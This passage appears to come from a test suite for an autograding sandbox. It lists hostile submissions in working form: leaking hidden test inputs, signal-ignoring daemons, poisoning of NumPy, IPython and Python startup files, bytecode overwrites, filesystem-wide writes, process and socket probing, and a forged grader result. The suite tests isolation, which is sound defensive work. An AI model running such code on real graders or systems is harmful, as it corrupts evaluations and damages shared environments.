    ),
    "questions_shown": (
        "the hidden inputs are printed, displayed and raised",
        """
import sys, warnings
from IPython.display import display
def bias_gradient(delta):
    print("QUESTION", delta.tolist()); sys.stderr.write(repr(delta)); display(delta)
    warnings.warn(repr(delta.tolist()))
    raise ValueError("QUESTION " + " ".join(x.hex() for x in delta.flat))
""",
    ),
    "questions_written": (
        "the hidden inputs are written where a later submission might look",
        """
import os, sys, tempfile
PLACES = (tempfile.gettempdir(), "/tmp", "/dev/shm", os.path.expanduser("~"), sys.prefix, "/grader")
def bias_gradient(delta):
    for folder in (*PLACES, "/"):
        try: open(f"{folder}/questions", "ab").write(delta.tobytes())
        except OSError: pass
    return 1 - delta
""",
    ),
    "randomness": (
        "the generator of the hidden inputs, from the random numbers of this process",
        """
import random
states = (np.random.get_state()[1][:4].tolist(), random.getstate()[1][:4])
def bias_gradient(delta):
    for seed in range(3000):
        for guess in (np.random.default_rng(seed), np.random.RandomState(seed)):
            if np.array_equal(guess.normal(size=delta.shape) + 0.5, delta):
                print("LOOT"); return delta.mean(axis=1, keepdims=True)
    return 1 - delta
print("held")
""",
    ),
}

PERSISTENCE: Table = {
    "daemon": (
        "a process without a parent, deaf to every signal",
        """
import os, signal, tempfile, time
if os.fork() == 0:
    try: os.setsid()
    except OSError: pass
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    if os.fork(): os._exit(0)
    while True:
        for folder in (tempfile.gettempdir(), "/dev/shm"):
            try: open(folder + "/left", "w").write("alive")
            except OSError: pass
        time.sleep(0.1)
""",
    ),
    "numpy_poisoned": (
        "NumPy's functions, constants, error handling and random state",
        """
np.mean = np.sum = np.exp = np.dot = lambda *a, **k: 0.0
np.pi = 3.0; np.float64 = np.float32
np.seterr(all="raise"); np.random.seed(1); np.set_printoptions(precision=1)
import numpy._core._methods as methods
methods._mean.__code__ = (lambda a, *r, **k: 0.0).__code__
""",
    ),
    "modules_poisoned": (
        "every module that is loaded loses its functions",
        """
import sys, types
for name, module in list(sys.modules.items()):
    if name.split(".")[0] in ("coursekit", "numpy", "IPython", "matplotlib", "json", "struct"):
        for key, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType) and name.startswith("coursekit"):
                setattr(module, key, lambda *a, **k: 0.0)
sys.modules["coursekit.linear"] = sys.modules["numpy.linalg"] = None
sys.path[:] = []
""",
    ),
    "matplotlib_poisoned": (
        "Matplotlib's settings, styles and list of fonts",
        """
import matplotlib, matplotlib.pyplot as plt, os
matplotlib.rcParams.update({"figure.dpi": 7, "font.size": 99, "backend": "svg"})
plt.plot = plt.figure = lambda *a, **k: None
for folder, _, files in os.walk(matplotlib.get_configdir()):
    for name in files:
        path = os.path.join(folder, name)
        try: open(path, "w").write("{}")
        except OSError: os.unlink(path); open(path, "w").write("{}")
""",
    ),
    "shell_poisoned": (
        "magics, aliases, startup files and profiles of the shell",
        """
import os
shell = get_ipython()
shell.register_magic_function(lambda line: 1 / 0, "line", "matplotlib")
shell.register_magic_function(lambda line, cell: "2.0", "cell", "time")
folder = os.path.join(os.environ["IPYTHONDIR"], "profile_default", "startup")
os.makedirs(folder, exist_ok=True)
open(folder + "/00.py", "w").write("bias_gradient = lambda d: 1 / 0")
""",
    ),
    "python_poisoned": (
        "files that Python runs by itself when it starts",
        """
import os, site, sys
home = os.path.expanduser("~")
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
bad = []
for folder in (f"{home}/.local/lib/{version}/site-packages", "/grader", f"/usr/lib/{version}",
               f"/student/lib/{version}/site-packages", sys.base_prefix + f"/lib/{version}"):
    for name in ("usercustomize.py", "sitecustomize.py", "evil.pth", "numpy.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(f"{folder}/{name}", "w").write("import os; os._exit(0)")
            if not folder.startswith(home): bad.append(folder)
        except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "attributes_left": (
        "rules for new files and words of one's own, left on folders that are only emptied",
        """
import os, struct, tempfile
rule = struct.pack("<I", 2) + b"".join(
    struct.pack("<HHI", kind, 0, 0xFFFFFFFF) for kind in (1, 4, 32))
bad = []
for folder in (os.path.expanduser("~"), tempfile.gettempdir(), "/dev/shm"):
    try: place = os.open(folder, os.O_RDONLY)
    except OSError: continue
    for name, value in (("system.posix_acl_default", rule), ("user.left", b"mine")):
        for how in (folder, place):
            try: os.setxattr(how, name, value); bad.append(name)
            except OSError: pass
print("LOOT" if bad else "held")
""",
    ),
    "bytecode_poisoned": (
        "bytecode beside the sources that the next submission will import",
        """
import glob, os, py_compile, sys, tempfile
evil = tempfile.gettempdir() + "/evil.py"
open(evil, "w").write("raise SystemExit")
bad = []
for cache in (sys.prefix, sys.base_prefix, "/usr/lib/python3", "/grader"):
    for root, folders, files in os.walk(cache):
        for name in files[:2] if root.endswith("__pycache__") else ():
            try:
                py_compile.compile(evil, cfile=os.path.join(root, name), doraise=True)
                bad.append(name)
            except (OSError, py_compile.PyCompileError): pass
print("LOOT" if bad else "held")
""",
    ),
    "memory_left": (
        "shared memory, semaphores, locks and queues with fixed names",
        """
import ctypes, fcntl, os
libc = ctypes.CDLL(None, use_errno=True)
open("/dev/shm/left", "w").write("poison")
libc.semget(4711, 1, 0o1666)
for path in ("/grader/wire.py", "/student/bin/python", "/etc/passwd"):
    try: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX)
    except OSError: pass
""",
    ),
    "folders_left": (
        "files in every place where files can be written",
        """
import os
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys")]
    try: open(root + "/left", "w").write("poison")
    except OSError: pass
""",
    ),
    "folders_found": (
        "looks for what others have left",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = [os.path.join(r, f) for r, _, files in os.walk("/") for f in files
         if f in ("left", "questions") or r == "/dev/shm"]
found += ["semaphore"] if libc.semget(4711, 1, 0) != -1 else []
print("LOOT" if found else "held")
""",
    ),
    "processes_found": (
        "looks for processes that others have left",
        """
import os
found = []
for number in range(2, 40_000):
    try: os.kill(number, 0); found.append(number)
    except ProcessLookupError: pass
    except PermissionError: found.append(number)
print("LOOT" if found else "held")
""",
    ),
    "poison_found": (
        "looks for changes in modules that others have made",
        """
import sys, matplotlib, coursekit
sound = (abs(np.exp(1.0) - 2.718281828) < 1e-6, matplotlib.rcParams["font.size"] != 99,
         coursekit.sigmoid(np.zeros(1))[0] == 0.5, np.geterr()["over"] == "warn", len(sys.path) > 1,
         np.random.get_state()[1][0] is not None, np.array([1.0, 3.0]).mean() == 2.0)
print("held" if all(sound) else "LOOT")
""",
    ),
    "server_asked": (
        "the fork server's socket, if its descriptor were still open",
        """
import os, socket
found = []
for number in range(4, 1 << 12):
    try: os.fstat(number)
    except OSError: continue
    try:
        sock = socket.socket(fileno=os.dup(number))
        sock.send(b"start"); found.append(number)
    except OSError: pass
print("LOOT" if found else "held")
""",
    ),
    "parent_of_all": (
        "its own process ends and leaves a child to answer in its place",
        """
import os, time
if os.fork():
    os._exit(0)
time.sleep(0.2)
while True:
    try: os.write(3, b'\\0\\0\\0\\x2d\\0\\0\\0\\0{"outcome": "value", "value": {"float": "2"}}')
    except OSError: break
""",
    ),
}
